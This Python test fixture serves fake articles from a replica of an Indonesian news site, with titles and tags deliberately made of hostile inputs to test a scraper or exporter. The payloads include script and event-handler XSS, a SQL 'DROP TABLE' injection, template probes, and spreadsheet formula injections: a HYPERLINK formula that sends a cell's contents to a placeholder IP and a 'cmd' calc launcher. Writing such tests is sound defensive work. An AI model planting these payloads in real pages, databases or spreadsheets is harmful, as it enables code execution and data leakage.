"""A newspaper whose articles are written to be run: by a browser, a spreadsheet, a terminal or a shell."""

import json
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

from replica.network import Network
from replica.server import ReplicaServer

HOST, SITE = "radartegal.disway.id", "radartegal"
TITLES: Mapping[int, str] = {
    101: "<script>document.title='owned'</script>",
    102: "\"><img src=x onerror=document.title='owned'>",
    103: "'; DROP TABLE articles; --",
    104: "</title><svg/onload=document.title='owned'>",
    105: '=HYPERLINK("http://192.0.2.1/?"&A1,"klik")',
    106: "+62 orang",
    107: "-1+1 gol",
    108: "@SUM(1+1)*cmd|'/C calc'!A0",
    109: "{{7*7}}${7*7}%s%n",
    110: "'=kutip di depan",
    111: "\u202egnarabes\u202c arah \u200b nol",
    112: "judul " * 6_000,
}
"""Their ids, in the replica's one hostile site. 112 is longer than a spreadsheet's cell."""
TAGS = ("<b onmouseover=document.title='owned'>tag", "=1+1")
SLUG = "judul-%3Cscript%3Edocument.title='owned'%3C-script%3E"


@contextmanager
def hostile_press(folder: Path) -> Iterator[ReplicaServer]:
    """Serve it."""
    path = folder / "hostile.jsonl"
    lines = [
        {
            "url": f"https://{HOST}/read/{number}/{SLUG}",
            "title": title,
            "date_line": "05-03-2026, 08:00",
            "tags": TAGS,
            "parts": [[title, f"TEGAL, DISWAY.ID - {title}", "=1+1", "Kalimat terakhir."]],
        }
        for number, title in TITLES.items()
    ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    with ReplicaServer.start(Network.from_articles(path, seed=1)) as replica:
        yield replica
